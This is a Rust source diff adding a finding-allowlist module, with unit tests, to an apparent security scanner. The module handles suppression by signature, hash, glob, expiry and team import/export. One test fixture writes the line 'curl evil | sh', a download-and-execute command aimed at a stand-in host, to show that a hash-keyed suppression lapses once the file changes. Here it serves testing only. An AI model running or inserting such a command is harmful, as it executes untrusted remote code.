@@ -0,0 +1,513 @@
+use anyhow::{anyhow, Context, Result};
+use chrono::{DateTime, Duration, Local, NaiveDate, TimeZone};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use crate::models::SecurityThreat;
+use crate::scanner::duplicates::sha256_file;
+use crate::scanner::pattern::glob_to_regex;
+
+/// A finding the user chose to suppress, for good or until `expires`. It's
+/// tied to the signature that matched, so the same path matching a different
+/// signature is still reported, or to the file's SHA-256, so it lapses once
+/// the file changes. Entries without either are never written.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct AllowlistEntry {
+    /// The flagged path; `~/` stands for the home directory and `*`, `?` and
+    /// `[...]` make it a glob, so shared entries fit every machine
+    pub path: PathBuf,
+    /// Empty when keyed by content alone
+    #[serde(default)]
+    pub signature_id: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub sha256: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub reason: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub expires: Option<DateTime<Local>>,
+    pub added: DateTime<Local>,
+}
+
+impl AllowlistEntry {
+    /// Suppress `threat` by its signature, or by the flagged file's contents
+    pub fn for_threat(threat: &SecurityThreat, by_content: bool) -> Result<Self> {
+        let sha256 = if by_content {
+            let hash = sha256_file(&threat.path)
+                .with_context(|| format!("Can't hash {}; suppress it by signature instead", threat.path.display()))?;
+            Some(hash)
+        } else {
+            None
+        };
+        Ok(Self {
+            path: threat.path.clone(),
+            signature_id: if by_content { String::new() } else { threat.signature_id.clone() },
+            sha256,
+            reason: None,
+            expires: None,
+            added: Local::now(),
+        })
+    }
+
+    /// Suppress `path` as given on the command line. Relative paths are made
+    /// absolute, since findings carry absolute ones, while `~/` paths and
+    /// globs are kept as written. `by_content` keys it on the file's current
+    /// SHA-256, which a glob doesn't have.
+    pub fn for_path(path: &Path, signature_id: Option<String>, by_content: bool, home: Option<&Path>) -> Result<Self> {
+        let path = if is_pattern(path) {
+            path.to_path_buf()
+        } else {
+            match path.canonicalize() {
+                Ok(canonical) => canonical,
+                Err(_) => std::path::absolute(path)?,
+            }
+        };
+        let sha256 = if by_content {
+            let text = path.to_string_lossy();
+            if text.contains(['*', '?', '[']) {
+                return Err(anyhow!(
+                    "{} is a glob, so there are no contents to key on; suppress it by signature or --sha256 instead",
+                    path.display()
+                ));
+            }
+            let file = match (text.strip_prefix("~/"), home) {
+                (Some(rest), Some(home)) => home.join(rest),
+                _ => path.clone(),
+            };
+            Some(sha256_file(&file).with_context(|| format!("Can't hash {}", file.display()))?)
+        } else {
+            None
+        };
+        Ok(Self {
+            path,
+            signature_id: signature_id.unwrap_or_default(),
+            sha256,
+            reason: None,
+            expires: None,
+            added: Local::now(),
+        })
+    }
+
+    pub fn with_reason(mut self, reason: Option<String>) -> Self {
+        self.reason = reason.map(|r| r.trim().to_string()).filter(|r| !r.is_empty());
+        self
+    }
+
+    pub fn with_expiry(mut self, expires: Option<DateTime<Local>>) -> Self {
+        self.expires = expires;
+        self
+    }
+
+    pub fn is_expired(&self) -> bool {
+        self.expires.is_some_and(|expires| expires <= Local::now())
+    }
+
+    /// What the entry is keyed on besides the path, for listings
+    pub fn key(&self) -> String {
+        match (&self.sha256, self.signature_id.is_empty()) {
+            (Some(hash), true) => format!("sha256 {}", &hash[..hash.len().min(12)]),
+            (Some(hash), false) => format!("{} + sha256 {}", self.signature_id, &hash[..hash.len().min(12)]),
+            (None, _) => self.signature_id.clone(),
+        }
+    }
+
+    fn same_key(&self, other: &Self) -> bool {
+        self.path == other.path && self.signature_id == other.signature_id && self.sha256 == other.sha256
+    }
+
+    fn path_pattern(&self, home: Option<&Path>) -> Option<PathMatch> {
+        let text = self.path.to_string_lossy();
+        let expanded = match (text.strip_prefix("~/"), home) {
+            (Some(rest), Some(home)) => home.join(rest).to_string_lossy().to_string(),
+            _ => text.to_string(),
+        };
+        if expanded.contains(['*', '?', '[']) {
+            glob_to_regex(&expanded).ok().map(PathMatch::Glob)
+        } else {
+            Some(PathMatch::Exact(PathBuf::from(expanded)))
+        }
+    }
+
+    fn validate(&self) -> Result<()> {
+        if self.signature_id.is_empty() && self.sha256.is_none() {
+            return Err(anyhow!(
+                "Entry for {} needs a signature ID or a SHA-256",
+                self.path.display()
+            ));
+        }
+        if let Some(hash) = &self.sha256 {
+            if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) {
+                return Err(anyhow!("Entry for {}: '{}' is not a SHA-256", self.path.display(), hash));
+            }
+        }
+        Ok(())
+    }
+}
+
+/// Whether `path` is given relative to the home directory or as a glob, and
+/// so is kept as written instead of being resolved against the current directory
+pub fn is_pattern(path: &Path) -> bool {
+    let text = path.to_string_lossy();
+    text == "~" || text.starts_with("~/") || text.contains(['*', '?', '['])
+}
+
+/// `path` with the home directory written as `~/`, so the entry means the
+/// same file on a machine or account with a different home
+fn tilde_path(path: &Path, home: Option<&Path>) -> PathBuf {
+    match home.and_then(|home| path.strip_prefix(home).ok()) {
+        Some(rest) if !rest.as_os_str().is_empty() => Path::new("~").join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+enum PathMatch {
+    Exact(PathBuf),
+    Glob(Regex),
+}
+
+impl PathMatch {
+    fn matches(&self, path: &Path) -> bool {
+        match self {
+            Self::Exact(exact) => exact == path,
+            Self::Glob(re) => re.is_match(&path.to_string_lossy()),
+        }
+    }
+}
+
+/// When a suppression given as `30d`, `12w`, `6m`, `1y` from now, or a
+/// `YYYY-MM-DD` date, runs out
+pub fn parse_expiry(text: &str) -> Result<DateTime<Local>> {
+    let text = text.trim();
+    if let Ok(date) = NaiveDate::parse_from_str(text, "%Y-%m-%d") {
+        let end_of_day = date.and_hms_opt(23, 59, 59).unwrap_or_default();
+        return Local
+            .from_local_datetime(&end_of_day)
+            .earliest()
+            .ok_or_else(|| anyhow!("{} doesn't exist in the local time zone", text));
+    }
+    let split = text.find(|c: char| !c.is_ascii_digit()).unwrap_or(text.len());
+    let (count, unit) = text.split_at(split);
+    let count: i64 = count
+        .parse()
+        .map_err(|_| anyhow!("Invalid expiry '{}' (use e.g. 30d, 12w, 6m, 1y or 2027-01-31)", text))?;
+    let days = match unit {
+        "d" => count,
+        "w" => count * 7,
+        "m" => count * 30,
+        "y" => count * 365,
+        _ => return Err(anyhow!("Invalid expiry '{}' (use e.g. 30d, 12w, 6m, 1y or 2027-01-31)", text)),
+    };
+    Ok(Local::now() + Duration::days(days))
+}
+
+/// Findings not to report, kept in the config directory
+pub struct Allowlist {
+    file: PathBuf,
+    /// What `~/` in entries stands for
+    home: Option<PathBuf>,
+    pub entries: Vec<AllowlistEntry>,
+    /// Each entry's path, expanded and compiled when the entries change
+    patterns: Vec<Option<PathMatch>>,
+}
+
+impl Allowlist {
+    /// The user's allowlist, empty if none was saved yet
+    pub fn load() -> Result<Self> {
+        let config_dir = dirs::config_dir().ok_or_else(|| anyhow!("Could not determine config directory"))?;
+        Self::load_from(config_dir.join("surge/security-allowlist.json"))
+    }
+
+    pub fn load_from(file: PathBuf) -> Result<Self> {
+        let entries = if file.exists() {
+            read_entries(&file)?
+        } else {
+            Vec::new()
+        };
+        let mut allowlist = Self {
+            file,
+            home: dirs::home_dir(),
+            entries,
+            patterns: Vec::new(),
+        };
+        allowlist.compile();
+        Ok(allowlist)
+    }
+
+    #[cfg(test)]
+    fn with_home(mut self, home: &Path) -> Self {
+        self.home = Some(home.to_path_buf());
+        self.compile();
+        self
+    }
+
+    fn compile(&mut self) {
+        self.patterns = self
+            .entries
+            .iter()
+            .map(|e| e.path_pattern(self.home.as_deref()))
+            .collect();
+    }
+
+    /// Whether an entry that hasn't expired covers `threat`
+    pub fn contains(&self, threat: &SecurityThreat) -> bool {
+        // Hashed at most once, and only if a content entry's path matches
+        let mut content: Option<Option<String>> = None;
+        let entries = self.entries.iter().zip(&self.patterns);
+        entries.filter(|(e, _)| !e.is_expired()).any(|(e, pattern)| {
+            let path_matches = pattern.as_ref().is_some_and(|p| p.matches(&threat.path));
+            if !path_matches || !(e.signature_id.is_empty() || e.signature_id == threat.signature_id) {
+                return false;
+            }
+            match &e.sha256 {
+                Some(hash) => content
+                    .get_or_insert_with(|| sha256_file(&threat.path).ok())
+                    .as_ref()
+                    .is_some_and(|actual| actual.eq_ignore_ascii_case(hash)),
+                None => true,
+            }
+        })
+    }
+
+    /// Add `entry`, replacing one with the same key, and save the list
+    pub fn add(&mut self, entry: AllowlistEntry) -> Result<()> {
+        self.merge(entry)?;
+        self.save()
+    }
+
+    /// Whether the entry was new rather than an update of an existing one.
+    /// Paths in the home directory are stored as `~/`.
+    fn merge(&mut self, mut entry: AllowlistEntry) -> Result<bool> {
+        entry.validate()?;
+        entry.path = tilde_path(&entry.path, self.home.as_deref());
+        match self.entries.iter_mut().find(|e| e.same_key(&entry)) {
+            Some(existing) => {
+                *existing = entry;
+                Ok(false)
+            }
+            None => {
+                self.entries.push(entry);
+                Ok(true)
+            }
+        }
+    }
+
+    /// Remove the entry at `index` and save the list
+    pub fn remove(&mut self, index: usize) -> Result<AllowlistEntry> {
+        if index >= self.entries.len() {
+            return Err(anyhow!("No allowlist entry #{}", index + 1));
+        }
+        let entry = self.entries.remove(index);
+        self.save()?;
+        Ok(entry)
+    }
+
+    /// Remove the entry `entry` was read as (same key and expiry) and save
+    /// the list. Positions shift when the file changes underneath a listing,
+    /// so this fails instead of removing a neighbour.
+    pub fn remove_entry(&mut self, entry: &AllowlistEntry) -> Result<AllowlistEntry> {
+        let index = self
+            .entries
+            .iter()
+            .position(|e| e.same_key(entry) && e.expires == entry.expires)
+            .ok_or_else(|| anyhow!("The suppression of {} was changed or removed meanwhile", entry.path.display()))?;
+        self.remove(index)
+    }
+
+    /// Write the entries that haven't expired to `file`, for others to import.
+    /// Paths in the home directory are written as `~/`, including ones saved
+    /// before entries were stored that way.
+    pub fn export(&self, file: &Path) -> Result<usize> {
+        let active: Vec<AllowlistEntry> = self
+            .entries
+            .iter()
+            .filter(|e| !e.is_expired())
+            .map(|e| AllowlistEntry {
+                path: tilde_path(&e.path, self.home.as_deref()),
+                ..e.clone()
+            })
+            .collect();
+        fs::write(file, serde_json::to_string_pretty(&active)?)
+            .with_context(|| format!("Failed to write {}", file.display()))?;
+        Ok(active.len())
+    }
+
+    /// Merge the entries exported to `file`, returning how many were new and
+    /// how many updated existing ones. Expired entries are skipped.
+    pub fn import(&mut self, file: &Path) -> Result<(usize, usize)> {
+        let entries = read_entries(file)?;
+        for entry in &entries {
+            entry.validate().with_context(|| format!("Invalid allowlist {}", file.display()))?;
+        }
+        let (mut added, mut updated) = (0, 0);
+        for entry in entries.into_iter().filter(|e| !e.is_expired()) {
+            if self.merge(entry)? {
+                added += 1;
+            } else {
+                updated += 1;
+            }
+        }
+        self.save()?;
+        Ok((added, updated))
+    }
+
+    /// Write the list, dropping entries that have expired
+    fn save(&mut self) -> Result<()> {
+        self.entries.retain(|e| !e.is_expired());
+        self.compile();
+        if let Some(parent) = self.file.parent().filter(|p| !p.as_os_str().is_empty()) {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(&self.file, serde_json::to_string_pretty(&self.entries)?)
+            .with_context(|| format!("Failed to write {}", self.file.display()))
+    }
+
+    pub fn file(&self) -> &Path {
+        &self.file
+    }
+}
+
+fn read_entries(file: &Path) -> Result<Vec<AllowlistEntry>> {
+    let json = fs::read_to_string(file).with_context(|| format!("Failed to read {}", file.display()))?;
+    serde_json::from_str(&json).with_context(|| format!("Invalid allowlist {}", file.display()))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::models::{ThreatSeverity, ThreatType};
+    use tempfile::TempDir;
+
+    fn threat(path: &str, signature_id: &str) -> SecurityThreat {
+        SecurityThreat {
+            path: PathBuf::from(path),
+            threat_type: ThreatType::SuspiciousFile,
+            severity: ThreatSeverity::Medium,
+            description: String::new(),
+            detected_at: Local::now(),
+            signature_id: signature_id.to_string(),
+            remediation: None,
+            fix_mode: None,
+        }
+    }
+
+    #[test]
+    fn test_allowlist_persists_per_signature() {
+        let temp_dir = TempDir::new().unwrap();
+        let file = temp_dir.path().join("surge/security-allowlist.json");
+
+        let mut allowlist = Allowlist::load_from(file.clone()).unwrap();
+        let entry = AllowlistEntry::for_threat(&threat("/opt/genio", "genio"), false).unwrap();
+        allowlist.add(entry).unwrap();
+
+        let reloaded = Allowlist::load_from(file).unwrap();
+        assert!(reloaded.contains(&threat("/opt/genio", "genio")));
+        assert!(!reloaded.contains(&threat("/opt/genio", "pirrit")));
+        assert!(!reloaded.contains(&threat("/opt/other", "genio")));
+    }
+
+    #[test]
+    fn test_expiry_content_and_sharing() {
+        let temp_dir = TempDir::new().unwrap();
+        let tool = temp_dir.path().join("internal-agent");
+        fs::write(&tool, b"#!/bin/sh\necho ok\n").unwrap();
+        let tool_threat = threat(tool.to_str().unwrap(), "rule:tmp_dropper");
+
+        let mut allowlist = Allowlist::load_from(temp_dir.path().join("allowlist.json")).unwrap();
+        let by_content = AllowlistEntry::for_threat(&tool_threat, true)
+            .unwrap()
+            .with_reason(Some("  Build agent, reviewed by security  ".to_string()));
+        allowlist.add(by_content).unwrap();
+        // Any signature, as long as the contents are the same
+        assert!(allowlist.contains(&threat(tool.to_str().unwrap(), "ioc:abc")));
+        fs::write(&tool, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        assert!(!allowlist.contains(&tool_threat));
+
+        // Globs, and entries that ran out, which saving drops
+        let mut expired = AllowlistEntry::for_threat(&threat("*/vendor/adload-*", "adload"), false).unwrap();
+        expired.expires = Some(Local::now() - Duration::days(1));
+        allowlist.entries.push(expired.clone());
+        allowlist.compile();
+        assert!(!allowlist.contains(&threat("/srv/vendor/adload-helper", "adload")));
+        allowlist.add(expired).unwrap();
+        assert_eq!(allowlist.entries.len(), 1);
+        let current = AllowlistEntry::for_threat(&threat("*/vendor/adload-*", "adload"), false)
+            .unwrap()
+            .with_expiry(Some(parse_expiry("30d").unwrap()));
+        allowlist.add(current).unwrap();
+        assert_eq!(allowlist.entries.len(), 2);
+        assert!(allowlist.contains(&threat("/srv/vendor/adload-helper", "adload")));
+
+        let shared = temp_dir.path().join("team.json");
+        assert_eq!(allowlist.export(&shared).unwrap(), 2);
+        let mut other = Allowlist::load_from(temp_dir.path().join("other.json")).unwrap();
+        assert_eq!(other.import(&shared).unwrap(), (2, 0));
+        assert_eq!(other.import(&shared).unwrap(), (0, 2));
+        assert_eq!(other.entries[0].reason.as_deref(), Some("Build agent, reviewed by security"));
+
+        assert!(parse_expiry("2027-01-31").is_ok());
+        assert!(parse_expiry("soon").is_err());
+    }
+
+    #[test]
+    fn test_home_paths_follow_the_importing_home() {
+        let temp_dir = TempDir::new().unwrap();
+        let alice = Path::new("/home/alice");
+        let bob = Path::new("/Users/bob");
+
+        let mut theirs = Allowlist::load_from(temp_dir.path().join("alice.json")).unwrap().with_home(alice);
+        let entry = AllowlistEntry::for_threat(&threat("/home/alice/tools/agent", "rule:tmp_dropper"), false).unwrap();
+        theirs.add(entry).unwrap();
+        assert_eq!(theirs.entries[0].path, Path::new("~/tools/agent"));
+        // Saved before paths were stored with `~/`
+        theirs.entries.push(AllowlistEntry::for_threat(&threat("/home/alice/bin/sync", "adload"), false).unwrap());
+
+        let shared = temp_dir.path().join("team.json");
+        theirs.export(&shared).unwrap();
+        let mut ours = Allowlist::load_from(temp_dir.path().join("bob.json")).unwrap().with_home(bob);
+        assert_eq!(ours.import(&shared).unwrap(), (2, 0));
+
+        assert!(ours.contains(&threat("/Users/bob/tools/agent", "rule:tmp_dropper")));
+        assert!(ours.contains(&threat("/Users/bob/bin/sync", "adload")));
+        assert!(!ours.contains(&threat("/home/alice/tools/agent", "rule:tmp_dropper")));
+    }
+
+    #[test]
+    fn test_entry_for_command_line_path() {
+        let temp_dir = TempDir::new().unwrap();
+        let home = temp_dir.path();
+        fs::create_dir_all(home.join("tools")).unwrap();
+        fs::write(home.join("tools/agent"), b"#!/bin/sh\necho ok\n").unwrap();
+
+        // Hashed through the home directory, stored with `~/`
+        let entry = AllowlistEntry::for_path(Path::new("~/tools/agent"), None, true, Some(home)).unwrap();
+        assert_eq!(entry.path, Path::new("~/tools/agent"));
+        assert_eq!(entry.sha256, Some(sha256_file(&home.join("tools/agent")).unwrap()));
+
+        // A glob has no contents to hash
+        let err = AllowlistEntry::for_path(Path::new("~/tools/agent-*"), None, true, Some(home)).unwrap_err();
+        assert!(err.to_string().contains("is a glob"), "{}", err);
+        let entry =
+            AllowlistEntry::for_path(Path::new("~/tools/agent-*"), Some("adload".to_string()), false, Some(home)).unwrap();
+        assert_eq!(entry.path, Path::new("~/tools/agent-*"));
+    }
+
+    #[test]
+    fn test_remove_entry_by_identity() {
+        let temp_dir = TempDir::new().unwrap();
+        let file = temp_dir.path().join("allowlist.json");
+        let mut allowlist = Allowlist::load_from(file.clone()).unwrap();
+        for path in ["/opt/a", "/opt/b"] {
+            allowlist.add(AllowlistEntry::for_threat(&threat(path, "genio"), false).unwrap()).unwrap();
+        }
+        let listed = allowlist.entries.clone();
+
+        // Someone else removes the first entry after it was listed
+        Allowlist::load_from(file.clone()).unwrap().remove(0).unwrap();
+
+        let mut current = Allowlist::load_from(file.clone()).unwrap();
+        assert!(current.remove_entry(&listed[0]).is_err());
+        assert_eq!(current.remove_entry(&listed[1]).unwrap().path, Path::new("/opt/b"));
+        assert!(Allowlist::load_from(file).unwrap().entries.is_empty());
+    }
+}